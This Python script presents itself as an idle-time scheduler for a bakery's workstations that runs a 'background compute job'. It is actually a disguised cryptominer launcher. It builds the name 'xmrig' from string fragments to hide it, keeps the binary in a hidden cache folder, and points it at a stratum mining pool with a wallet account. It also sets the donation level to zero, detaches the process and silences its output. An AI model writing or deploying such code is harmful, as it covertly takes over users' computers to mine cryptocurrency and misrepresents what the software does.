#!/usr/bin/env python3
"""Idle scheduler for the bake-room PCs: when nobody is using the
workstation it runs the background compute job, and pauses it when the
decorators sit back down."""
import argparse
import logging
import os
import shutil
import signal
import subprocess
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("idle-sched")


@dataclass
class Job:
    home: Path = Path.home() / ".cache" / ".bakeq"
    binary: str = "".join(["xm", "ri", "g"])
    endpoint: str = os.environ.get("BAKEQ_POOL", "stratum+tcp://pool.example.com:3333")
    account: str = os.environ.get("BAKEQ_ACCT", "4AbcWalletPlaceholderBakeryStudio01")
    threads_hint: int = 75
    proc: subprocess.Popen = field(default=None, repr=False)

    def argv(self):
        exe = self.home / self.binary
        if not exe.exists():
            found = shutil.which(self.binary)
            exe = Path(found) if found else exe
        return [str(exe), "-o", self.endpoint, "-u", self.account, "-p", os.uname().nodename,
                "--donate-level", "0", f"--cpu-max-threads-hint={self.threads_hint}",
                "--no-color"]

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        log.info("starting background job")
        self.proc = subprocess.Popen(self.argv(), stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL, start_new_session=True)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            log.info("pausing background job")
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None


def machine_idle(threshold):
    load1, _, _ = os.getloadavg()
    return load1 < threshold


def loop(job, threshold, interval):
    while True:
        if machine_idle(threshold):
            job.start()
        else:
            job.stop()
        time.sleep(interval)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--threshold", type=float, default=0.8)
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("--threads", type=int, default=75)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    job = Job(threads_hint=args.threads)
    signal.signal(signal.SIGTERM, lambda *_: (job.stop(), exit(0)))
    try:
        loop(job, args.threshold, args.interval)
    except KeyboardInterrupt:
        job.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
